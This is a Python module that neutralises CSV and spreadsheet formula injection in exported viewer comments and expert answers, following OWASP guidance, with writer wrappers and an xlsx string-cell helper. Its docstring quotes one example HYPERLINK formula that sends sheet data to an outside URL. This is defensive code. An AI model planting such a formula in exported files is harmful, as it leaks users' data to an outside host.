"""Cells that a spreadsheet program can never run as formulas (CSV injection, OWASP).

Viewer comments, user ids and names and expert answers end up in CSV files an
officer opens in Excel or WPS. A cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return may be evaluated as a formula there
(``=HYPERLINK("http://…?x="&A1,"点我")`` sends the sheet's data away). As OWASP
recommends, such a cell is written with a leading apostrophe, which the
spreadsheet shows as text and does not evaluate; ``restore`` removes it again
when the knowledge base reads its own export back, so a round trip loses
nothing. Numbers are written as they are (a negative number is no formula).

In .xlsx files text is stored as a string cell (``inlineStr`` or a shared
string), never as a formula: ``xlsx_text`` makes sure of it.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` with a leading apostrophe if it is text a spreadsheet would evaluate."""
    # Text that already starts with apostrophes before such a character gets one more,
    # so that ``restore`` (which removes one) gives it back exactly.
    if isinstance(value, str) and value.lstrip("'").startswith(FORMULA_START):
        return "'" + value
    return value


def restore(text: str) -> str:
    """The inverse of ``neutralise`` for text read back from a CSV file."""
    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_START):
        return text[1:]
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


class SafeWriter:
    """``csv.writer`` whose every text cell is neutralised."""

    def __init__(self, handle: Any, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose every text cell is neutralised (the header is ours)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: neutralise(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def xlsx_text(cell: Any) -> Any:
    """Mark an openpyxl cell holding text as a string cell (openpyxl reads '=…' as a formula)."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell
